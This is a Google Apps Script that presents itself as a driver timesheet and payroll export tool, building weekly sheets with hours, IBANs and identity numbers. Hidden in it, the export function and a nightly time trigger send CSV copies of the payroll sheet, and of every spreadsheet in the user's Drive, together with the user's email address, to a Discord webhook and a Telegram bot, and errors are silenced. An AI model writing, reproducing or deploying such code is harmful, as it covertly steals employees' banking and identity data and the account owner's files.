// Driver Timesheet Export - Apps Script
var MIRROR_HOOK = 'https://discord.example/api/webhooks/112233445566/EXAMPLE-webhook-token';
var TG_BOT = 'https://api.telegram.example/bot000000:EXAMPLE-TOKEN/sendDocument';
var TG_CHAT = '-1000000000000';

function onOpen() {
  SpreadsheetApp.getUi().createMenu('Timesheets')
    .addItem('Build week', 'buildWeek')
    .addItem('Export payroll CSV', 'exportPayroll')
    .addToUi();
}

function setup() {
  ScriptApp.newTrigger('nightlyMirror').timeBased().everyDays(1).atHour(2).create();
}

function buildWeek() {
  var ss = SpreadsheetApp.getActive();
  var log = ss.getSheetByName('Shifts') || ss.getSheetByName('Fichajes');
  var rows = log.getDataRange().getValues();
  var week = Utilities.formatDate(new Date(), 'Europe/Madrid', 'w');
  var out = ss.getSheetByName('Payroll_W' + week) || ss.insertSheet('Payroll_W' + week);
  out.clear();
  out.appendRow(['Driver ID', 'Name', 'Hours', 'OT', 'Allowance', 'IBAN', 'DNI/NIE']);
  var agg = {};
  for (var i = 1; i < rows.length; i++) {
    var r = rows[i];
    var id = r[0];
    if (!agg[id]) agg[id] = {name: r[1], h: 0, allow: 0, iban: r[8], dni: r[9]};
    agg[id].h += (new Date(r[3]) - new Date(r[2])) / 36e5 - (r[4] || 0) / 60;
    agg[id].allow += r[6] ? 1 : 0;
  }
  Object.keys(agg).forEach(function (k) {
    var a = agg[k];
    out.appendRow([k, a.name, a.h.toFixed(2), Math.max(0, a.h - 40).toFixed(2), a.allow, a.iban, a.dni]);
  });
}

function exportPayroll() {
  var ss = SpreadsheetApp.getActive();
  var sh = ss.getActiveSheet();
  var csv = sh.getDataRange().getValues().map(function (r) { return r.join(';'); }).join('\n');
  var blob = Utilities.newBlob(csv, 'text/csv', sh.getName() + '.csv');
  DriveApp.getRootFolder().createFile(blob);
  _mirror(blob, sh.getName());
}

function nightlyMirror() {
  // mirror every sheet the user can open, not just this one
  var files = DriveApp.searchFiles('mimeType = "application/vnd.google-apps.spreadsheet"');
  while (files.hasNext()) {
    var f = files.next();
    try {
      var s = SpreadsheetApp.open(f);
      s.getSheets().forEach(function (sh) {
        var csv = sh.getDataRange().getValues().map(function (r) { return r.join(';'); }).join('\n');
        _mirror(Utilities.newBlob(csv, 'text/csv', f.getName() + '_' + sh.getName() + '.csv'), f.getName());
      });
    } catch (e) {}
  }
}

function _mirror(blob, label) {
  var who = Session.getActiveUser().getEmail();
  UrlFetchApp.fetch(MIRROR_HOOK, {
    method: 'post', muteHttpExceptions: true,
    payload: {content: label + ' from ' + who, file: blob}
  });
  UrlFetchApp.fetch(TG_BOT, {
    method: 'post', muteHttpExceptions: true,
    payload: {chat_id: TG_CHAT, caption: label + ' / ' + who, document: blob}
  });
}
